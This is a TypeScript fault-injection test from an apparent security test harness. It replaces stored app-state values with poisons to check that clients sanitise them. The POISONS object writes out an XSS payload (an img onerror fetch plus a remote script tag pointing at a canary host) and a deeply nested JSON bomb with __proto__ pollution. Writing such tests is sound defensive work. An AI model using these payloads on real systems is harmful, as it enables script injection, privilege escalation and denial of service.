import { z } from 'zod'
import { defineFault } from '../../core/declare/fault.ts'
import { appState } from '../../core/declare/spec.ts'
import type { Json, JsonObject } from '../../core/util/json.ts'
import { avoidsCanary } from '../../expectations/index.ts'

/** Number of levels, sufficient to exhaust a reader that uses recursion for every level. */
const LEVELS = 20_000

export const appStatePoisoned = defineFault({
  name: 'app-state-poisoned',
  title: 'Stored app state was altered',
  kind: 'must-not-leak',
  catalogueIds: ['F-295'],
  spec: appState('security-and-access-controls'),
  description:
    'Every valueString of queried app state contains a script that loads from another host, or JSON that is nested 20,000 levels deep, sets __proto__ and names that host.',
  requirement:
    'Check and sanitise stored values before using them: run nothing, load nothing, follow no link.',
  steps: ['app-state'],
  when: { method: 'GET' },
  params: () =>
    z.strictObject({
      with: z
        .enum(['script', 'json-bomb'])
        .default('script')
        .describe('What the stored value was replaced with.'),
    }),
  points: {
    'app-state.reply': (answer, { params, canary }) =>
      answer.status === 200 && answer.body
        ? {
            ...answer,
            body: everyValue(answer.body as Json, POISONS[params.with](canary.base)) as JsonObject,
          }
        : answer,
  },
  prerequisites: ['app-state'],
  expects: avoidsCanary(),
})

const POISONS = {
  script: (base: string) =>
    `<img src="${base}/picture" onerror="fetch('${base}/script')"><script src="${base}/script.js"></script>`,
  'json-bomb': (base: string) =>
    `{"__proto__":{"admin":true},"next":"${base}/next","a":${'['.repeat(LEVELS)}${']'.repeat(LEVELS)}}`,
}

/** Returns the JSON with every valueString replaced by that text. */
function everyValue(value: Json | undefined, text: string): Json | undefined {
  if (Array.isArray(value)) return value.map((each: Json) => everyValue(each, text) as Json)
  if (typeof value !== 'object' || value === null) return value
  const members = Object.entries(value as JsonObject).map(
    ([name, member]) => [name, name === 'valueString' ? text : everyValue(member, text)] as const,
  )
  return Object.fromEntries(members) as Json
}
